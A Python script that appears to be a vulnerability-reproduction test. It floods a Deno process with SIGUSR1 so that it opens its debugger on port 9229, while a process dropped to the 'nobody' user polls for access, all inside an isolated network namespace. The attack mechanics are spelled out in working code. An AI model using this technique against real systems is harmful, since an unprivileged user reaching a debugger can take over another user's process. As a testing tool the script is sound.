"""Sends SIGUSR1 to a command again and again while an unprivileged user polls for the debugger that Deno opens at it.

    attack_debugger.py SECONDS PORT COMMAND [ARG...]

PORT is where the command listens once it works (0: nowhere); the attack lasts at least until then. In a network namespace of its own, so that whatever listens there is the command's. Prints one JSON object: `signals` sent,
`opened` (ports at which the command listened meanwhile), `connections` that the user got to 9229, `alive` at the end.
The attack begins when the command no longer treats the signal by default, which would end it, as it would any program.
"""

import ctypes
import fcntl
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time

CLONE_NEWNET = 0x40000000
SIOCSIFFLAGS, IFF_UP_RUNNING = 0x8914, 0x41
NOBODY = 65534
DEBUGGER = ("127.0.0.1", 9229)


def enter_own_network():
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    with socket.socket() as any_socket:
        fcntl.ioctl(any_socket, SIOCSIFFLAGS, struct.pack("16sh14x", b"lo", IFF_UP_RUNNING))


def poll_as_nobody(pipe):
    """Writes a byte for each connection to the debugger; never returns."""
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    while True:
        with socket.socket() as attacker:
            if attacker.connect_ex(DEBUGGER) == 0:
                os.write(pipe, b"c")
        time.sleep(0.002)


def treats_signal(pid):
    """Whether it is blocked, ignored or caught. All signals are blocked for a moment whenever a thread is made: not that."""
    with open(f"/proc/{pid}/status") as status:
        masks = dict(line.split() for line in status if line.startswith("Sig") and not line.startswith("SigQ"))
    has = lambda mask, number: int(masks[mask], 16) >> (number - 1) & 1
    blocked = has("SigBlk:", signal.SIGUSR1) and not has("SigBlk:", signal.SIGTERM)
    return blocked or has("SigIgn:", signal.SIGUSR1) or has("SigCgt:", signal.SIGUSR1)


def listening_ports():
    ports = set()
    for table in ("tcp", "tcp6"):
        with open(f"/proc/self/net/{table}") as sockets:
            for line in list(sockets)[1:]:
                _, local, _, state = line.split()[:4]
                if state == "0A":
                    ports.add(int(local.rsplit(":", 1)[1], 16))
    return ports


def main():
    seconds, port, command = float(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
    enter_own_network()
    reading, writing = os.pipe2(os.O_NONBLOCK)
    poller = os.fork()
    if poller == 0:
        poll_as_nobody(writing)
    victim = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    signals, opened = 0, set()
    begin = time.monotonic()
    try:
        while victim.poll() is None and not treats_signal(victim.pid):
            time.sleep(0.001)
            if time.monotonic() - begin > 60:
                raise TimeoutError("the command treats SIGUSR1 by default")
        begin = time.monotonic()
        while victim.poll() is None and (time.monotonic() - begin < seconds or port not in opened | {0}):
            victim.send_signal(signal.SIGUSR1)
            signals += 1
            if signals % 20 == 0:  # the kernel walks a large table for it
                opened |= listening_ports()
            time.sleep(0.005)
        alive = victim.poll() is None
    finally:
        os.kill(poller, signal.SIGKILL)
        os.waitpid(poller, 0)
        victim.kill()
        victim.wait()
    os.close(writing)
    try:
        connections = len(os.read(reading, 1 << 16))
    except BlockingIOError:
        connections = 0
    print(json.dumps({"signals": signals, "opened": sorted(opened), "connections": connections, "alive": alive}))


main()
